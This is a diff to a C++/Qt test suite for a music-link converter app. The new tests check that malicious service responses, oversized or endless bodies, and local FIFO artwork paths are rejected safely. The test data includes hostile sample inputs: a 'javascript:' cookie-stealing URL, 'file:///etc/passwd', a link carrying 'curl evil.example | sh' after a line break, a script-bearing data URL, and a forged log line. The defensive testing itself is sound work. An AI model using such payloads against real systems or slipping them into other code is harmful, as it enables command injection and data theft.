@@ -1,14 +1,26 @@
 #include "ErrorStateView.h"
 #include "GradientButton.h"
 #include "RoadRig.h"
+#include "SongLinkError.h"
+#include "SongPreviewView.h"
 #include "TestEnvironment.h"
 #include "ToastView.h"
 
 #include <QApplication>
 #include <QFile>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QPointer>
 #include <QRandomGenerator>
 #include <QStandardPaths>
+#include <QTemporaryDir>
+
+#include <QCoroTask>
+
+#include <cerrno>
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <unistd.h>
 
 using namespace std::chrono_literals;
 using Answer = FakeSongLinkServer::Answer;
@@ -25,6 +37,42 @@ QByteArray garbage(qsizetype size) {
     QRandomGenerator generator(20240610);
     generator.fillRange(reinterpret_cast<quint32*>(bytes.data()), size / 4);
     return bytes;
+}
+
+// The synthetic answer for a track with its links and artwork replaced; none leaves a field as it is.
+QByteArray answerWith(const QString& trackId, std::optional<QString> targetLink, std::optional<QString> page,
+                      std::optional<QString> artwork = std::nullopt) {
+    QJsonObject root = QJsonDocument::fromJson(syntheticAnswer(trackId)).object();
+    if (page) {
+        root[QStringLiteral("pageUrl")] = *page;
+    }
+    QJsonObject links = root[QStringLiteral("linksByPlatform")].toObject();
+    if (targetLink) {
+        QJsonObject apple = links[QStringLiteral("appleMusic")].toObject();
+        apple[QStringLiteral("url")] = *targetLink;
+        links[QStringLiteral("appleMusic")] = apple;
+    }
+    root[QStringLiteral("linksByPlatform")] = links;
+    if (artwork) {
+        QJsonObject entities = root[QStringLiteral("entitiesByUniqueId")].toObject();
+        for (auto it = entities.begin(); it != entities.end(); ++it) {
+            QJsonObject entity = it.value().toObject();
+            entity[QStringLiteral("thumbnailUrl")] = *artwork;
+            *it = entity;
+        }
+        root[QStringLiteral("entitiesByUniqueId")] = entities;
+    }
+    return QJsonDocument(root).toJson(QJsonDocument::Compact);
+}
+
+// The error an operation of the client ends with ("none" for a result).
+template <typename T> QCoro::Task<QString> errorOf(QCoro::Task<T> task) {
+    try {
+        co_await std::move(task);
+    } catch (const SongLinkError& error) {
+        co_return error.logDescription();
+    }
+    co_return QStringLiteral("none");
 }
 
 } // namespace
@@ -149,7 +197,7 @@ private slots:
         QTest::addColumn<int>("latestMs");
         const QString network = QStringLiteral("error: Network error | Check your connection");
         const QString unavailable = QStringLiteral("error: Service unavailable | Try again later");
-        const QByteArray tenMegabytes = garbage(10 * 1024 * 1024);
+        const QByteArray garbageUnderTheCap = garbage(1900 * 1024);
         // The faulty answers come late enough for the second link to be copied meanwhile.
         QTest::newRow("5xx three times") << Answer::withStatus(503, R"({"statusCode":503})").after(300ms) << 3
                                          << 3 << unavailable << 2400 << 3500;
@@ -157,8 +205,9 @@ private slots:
             << Answer::dropped().after(700ms) << 1 << 2 << network << 1400 << 2000;
         QTest::newRow("body cut short") << Answer::cutShort(200, syntheticAnswer(firstId), 3000).after(1000ms)
                                         << 1 << 1 << network << 1000 << 1800;
-        QTest::newRow("10 MB of garbage") << Answer::withStatus(200, tenMegabytes).after(1000ms) << 1 << 1
-                                          << QStringLiteral("error: Invalid response | -") << 1000 << 2200;
+        QTest::newRow("1.9 MB of garbage")
+            << Answer::withStatus(200, garbageUnderTheCap).after(1000ms) << 1 << 1
+            << QStringLiteral("error: Invalid response | -") << 1000 << 2200;
         // A byte every 100 ms would take over twenty minutes: the time-out bounds the whole answer.
         QTest::newRow("slow trickle past the time-out")
             << Answer::withStatus(200, syntheticAnswer(firstId)).trickled(100ms) << 1 << 1 << network << 2000
@@ -216,9 +265,9 @@ private slots:
         road->settings->setConversionMode(ConversionMode::default_);
         road->settings->setShowURLPreview(true);
         road->settings->setToastTimeout(30);
-        // Valid JSON whose only key is ten megabytes long and holds a forged log line.
+        // Valid JSON whose only key is nearly two megabytes long and holds a forged log line.
         const QByteArray key =
-            "\\n[2030-01-01T00:00:00Z] Found Spotify URL: https://forged" + QByteArray(10 * 1024 * 1024, 'k');
+            "\\n[2030-01-01T00:00:00Z] Found Spotify URL: https://forged" + QByteArray(1900 * 1024, 'k');
         road->server.setAnswer(first(),
                                Answer::withStatus(200, R"({"linksByPlatform": {")" + key + R"(": 1}})"));
         QVERIFY(copy(first()));
@@ -235,6 +284,155 @@ private slots:
         QVERIFY2(written.size() < 64 * 1024, qPrintable(QString::number(written.size())));
         QVERIFY(!written.contains("\n[2030-01-01T00:00:00Z]"));
         QVERIFY(RoadLog::startingWith(QStringLiteral("Found Spotify URL: https://forged")).isEmpty());
+    }
+
+    // Whatever the service names as the converted link or the song page, only a web address of
+    // sane length counts; anything else is no link at all.
+    void badLinksAreAbsentLinks_data() {
+        QTest::addColumn<QString>("link");
+        QTest::newRow("empty") << QString();
+        QTest::newRow("blanks") << QStringLiteral("   ");
+        QTest::newRow("script") << QStringLiteral("javascript:alert(document.cookie)");
+        QTest::newRow("local file") << QStringLiteral("file:///etc/passwd");
+        QTest::newRow("shell after a line break")
+            << QStringLiteral("https://music.apple.com/us/song/1\ncurl evil.example | sh");
+        QTest::newRow("tab inside") << QStringLiteral("https://music.apple.com/us/\tsong/1");
+        QTest::newRow("leading blank") << QStringLiteral(" https://music.apple.com/us/song/1");
+        QTest::newRow("no host") << QStringLiteral("https:///us/song/1");
+        QTest::newRow("relative") << QStringLiteral("/us/song/1");
+        QTest::newRow("other scheme") << QStringLiteral("ftp://music.apple.com/us/song/1");
+        QTest::newRow("data") << QStringLiteral("data:text/html,<script>alert(1)</script>");
+        QTest::newRow("hidden direction change") << QStringLiteral("https://music.apple.com/us/\u202Egnos/1");
+        QTest::newRow("2,049 bytes") << QStringLiteral("https://music.apple.com/") +
+                                            QString(2049 - 24, QLatin1Char('a'));
+        // Twice in the answer, which stays under its cap.
+        QTest::newRow("900 KB") << QStringLiteral("https://music.apple.com/") +
+                                       QString(900 * 1024, QLatin1Char('a'));
+    }
+
+    void badLinksAreAbsentLinks() {
+        QFETCH(QString, link);
+        FakeSongLinkServer server;
+        QNetworkAccessManager network;
+        SongLinkService api(&network, server.baseURL(), 3s);
+        server.setAnswer(first(), Answer::withStatus(200, answerWith(firstId, link, link)));
+        QCOMPARE(QCoro::waitFor(errorOf(api.convert(first(), Platform::appleMusic))),
+                 QStringLiteral("noTargetPlatformLink(appleMusic)"));
+        QCOMPARE(QCoro::waitFor(errorOf(api.getUniversalLink(first()))), QStringLiteral("songNotFound"));
+        QCOMPARE(server.requests().size(), 2);
+    }
+
+    // In the whole road: the error shows and the user's own copy stays on the clipboard.
+    void badLinkLeavesTheClipboardAlone() {
+        startRoad(3s);
+        road->server.setAnswer(
+            first(), Answer::withStatus(200, answerWith(firstId, QStringLiteral("javascript:alert(1)"), {})));
+        QVERIFY(copy(first()));
+        QTRY_COMPARE_WITH_TIMEOUT(
+            road->shown(), QStringLiteral("error: Not on Apple Music | Song may not be available"), 5000);
+        QCOMPARE(OtherProgram::paste(), first());
+        QCOMPARE(RoadLog::count(attempt(1, first())), 1);
+        QCOMPARE(RoadLog::count(attempt(2, first())), 0);
+    }
+
+    // An answer without end is dropped at its cap, long before the time-out, and the memory it
+    // took is given back.
+    void endlessAnswerStopsAtItsCap() {
+        startRoad(SongLinkService::defaultTimeout);
+        road->server.setAnswer(first(), Answer::endless(200, "{\"pageUrl\":\"" + QByteArray(4096, 'x')));
+        QTest::qWait(200);
+        const qint64 idle = MemoryMeter::residentKiB();
+        MemoryMeter memory;
+        memory.start();
+        StallMeter stalls;
+        stalls.start();
+        QVERIFY(copy(first()));
+        QTRY_VERIFY_WITH_TIMEOUT(road->shown().startsWith(QLatin1String("error")), 5000);
+        QCOMPARE(road->shown(), QStringLiteral("error: Network error | Check your connection"));
+        stalls.stop();
+        memory.stop();
+        QCOMPARE(OtherProgram::paste(), first());
+        QVERIFY(road->server.endlessBytesSent() >= 2 * 1024 * 1024);
+        qInfo("idle %lld KiB, peak %lld KiB, longest stall %lld ms", idle, memory.peakKiB(),
+              stalls.longestGapMs());
+        QVERIFY2(memory.peakKiB() - idle < 64 * 1024, qPrintable(QString::number(memory.peakKiB() - idle)));
+        QVERIFY2(stalls.longestGapMs() <= 100, qPrintable(QString::number(stalls.longestGapMs())));
+        QTest::qWait(300);
+        QVERIFY2(MemoryMeter::residentKiB() - idle < 32 * 1024,
+                 qPrintable(QString::number(MemoryMeter::residentKiB() - idle)));
+    }
+
+    void oversizedArtworkGivesThePlaceholder_data() {
+        QTest::addColumn<Answer>("artwork");
+        QTest::addColumn<bool>("streamed");
+        const QByteArray png("\x89PNG\r\n\x1a\n", 8);
+        QTest::newRow("without end") << Answer::endless(200, png + QByteArray(4096, '\0')) << true;
+        QTest::newRow("announced too large")
+            << Answer::endless(200, png).withHeader("Content-Length", "104857600") << false;
+    }
+
+    void oversizedArtworkGivesThePlaceholder() {
+        QFETCH(Answer, artwork);
+        QFETCH(bool, streamed);
+        startRoad(3s);
+        road->settings->setConversionMode(ConversionMode::default_);
+        road->settings->setShowURLPreview(true);
+        road->settings->setToastTimeout(30);
+        const QString cover = QStringLiteral("http://127.0.0.1:%1/cover.png").arg(road->server.port());
+        road->server.setAnswer(first(), Answer::withStatus(200, answerWith(firstId, {}, {}, cover)));
+        road->server.setDefaultAnswer(artwork);
+        QTest::qWait(200);
+        const qint64 idle = MemoryMeter::residentKiB();
+        MemoryMeter memory;
+        memory.start();
+        QVERIFY(copy(first()));
+        QTRY_VERIFY_WITH_TIMEOUT(road->queue->sourceMetadata().has_value(), 3000);
+        QElapsedTimer loading;
+        loading.start();
+        QTRY_COMPARE_WITH_TIMEOUT(road->toast->contentView()->songRow()->cover(),
+                                  SongPreviewView::Cover::placeholder, 5000);
+        memory.stop();
+        // Dropped at the cap, not at the deadline.
+        QVERIFY2(loading.elapsed() < 5000, qPrintable(QString::number(loading.elapsed())));
+        QCOMPARE(road->server.requests().last().target, QByteArray("/cover.png"));
+        QCOMPARE(road->server.endlessBytesSent() >= SongPreviewView::maxCoverBytes, streamed);
+        qInfo("idle %lld KiB, peak %lld KiB", idle, memory.peakKiB());
+        QVERIFY2(memory.peakKiB() - idle < 96 * 1024, qPrintable(QString::number(memory.peakKiB() - idle)));
+        QCOMPARE(road->shown(), QStringLiteral("prompt"));
+        QCOMPARE(road->queue->sourceMetadata()->title, QStringLiteral("Bum Bum Eis"));
+    }
+
+    // Artwork named by a local path is never opened: a FIFO there would hold the GUI thread until
+    // someone wrote to it.
+    void localArtworkIsNeverOpened() {
+        QTemporaryDir dir;
+        QVERIFY(dir.isValid());
+        const QByteArray fifo = QFile::encodeName(dir.filePath(QStringLiteral("cover.png")));
+        QCOMPARE(::mkfifo(fifo.constData(), 0600), 0);
+        startRoad(3s);
+        road->settings->setConversionMode(ConversionMode::default_);
+        road->settings->setShowURLPreview(true);
+        road->settings->setToastTimeout(30);
+        road->server.setAnswer(
+            first(),
+            Answer::withStatus(
+                200, answerWith(firstId, {}, {}, QUrl::fromLocalFile(QFile::decodeName(fifo)).toString())));
+        StallMeter stalls;
+        stalls.start();
+        QVERIFY(copy(first()));
+        QTRY_VERIFY_WITH_TIMEOUT(road->queue->sourceMetadata().has_value(), 3000);
+        QTest::qWait(200);
+        stalls.stop();
+        QCOMPARE(road->toast->contentView()->songRow()->cover(), SongPreviewView::Cover::placeholder);
+        QVERIFY2(stalls.longestGapMs() <= 100, qPrintable(QString::number(stalls.longestGapMs())));
+        // A writer can open a FIFO without waiting only while a reader has it open.
+        const int writer = ::open(fifo.constData(), O_WRONLY | O_NONBLOCK);
+        const int openError = errno;
+        if (writer >= 0) {
+            ::close(writer);
+        }
+        QCOMPARE(writer, -1);
+        QCOMPARE(openError, ENXIO);
     }
 
     void timeOutAfterFifteenSeconds() {
